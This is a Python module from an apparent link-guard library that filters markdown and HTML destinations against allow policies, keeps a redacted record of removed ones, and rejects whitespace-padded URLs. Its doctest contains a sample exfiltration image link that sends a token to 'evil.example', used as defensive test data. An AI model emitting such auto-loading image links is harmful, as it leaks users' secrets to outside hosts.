"""Which destinations `guard` keeps, and which ones it removed."""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from uriverse import IRIReference, Policy, redact

from ._html import find as find_in_html
from ._links import absolute

if TYPE_CHECKING:
    from ._destinations import LinkKind

#: The kinds of destinations that a user opens. All others load without a click.
CLICKED = {"link", "autolink", "text"}


class Removed(NamedTuple):
    """A destination that `Guard` removed.

    Attributes:
        kind: the role of the destination, as in `Link`: `"link"`, `"autolink"`, `"image"`, or
            another one for raw HTML.
        destination: the destination, in which secrets are replaced as `redact` replaces them.

    >>> from uriverse import Policy
    >>> from uriverse_links import Guard
    >>> guard = Guard(Policy(allow=["docs.example"]))
    >>> _ = guard.feed("![x](https://evil.example/?token=a)") + guard.close()
    >>> guard.removed
    [Removed(kind='image', destination='https://evil.example/?token=REDACTED')]
    """

    kind: LinkKind
    destination: str


class Rules:
    """Decide which destinations are kept.

    Attributes:
        html: whether harmless HTML is kept.
        removed: the destinations that were removed, as keys.
    """

    def __init__(
        self,
        policy: Policy,
        embeds: Policy | None,
        base: str | IRIReference | None,
        *,
        html: bool = False,
    ) -> None:
        """Keep the policies, and check the base URI."""
        self.policy = policy
        self.embeds = embeds
        self.base = None if base is None else absolute(IRIReference(base))
        self.html = html
        self.removed: dict[Removed, None] = {}

    def allow_link(self, destination: str) -> bool:
        """Return whether a link to a destination is kept."""
        return is_trimmed(destination) and self.policy.allows(destination, base=self.base)

    def allow_embed(self, destination: str) -> bool:
        """Return whether a destination that loads without a click is kept."""
        if self.embeds is None or not is_trimmed(destination):
            return False
        return self.embeds.allows(destination, base=self.base)

    def remove(self, kind: LinkKind, destination: str) -> None:
        """Record a destination that is not kept, unless a policy allows it."""
        allow = self.allow_link if kind in CLICKED else self.allow_embed
        if not allow(destination):
            self.removed[Removed(kind, redact(destination))] = None

    def remove_html(self, html: str) -> None:
        """Record the destinations in HTML that is not kept."""
        for found in find_in_html(html):
            self.remove(found.kind, found.destination)


def is_trimmed(destination: str) -> bool:
    """Return whether no white space surrounds a destination.

    markdown-it removes it: before `//evil.example`, U+FEFF would be the start of a relative path.
    """
    return destination == destination.strip().strip("\ufeff")
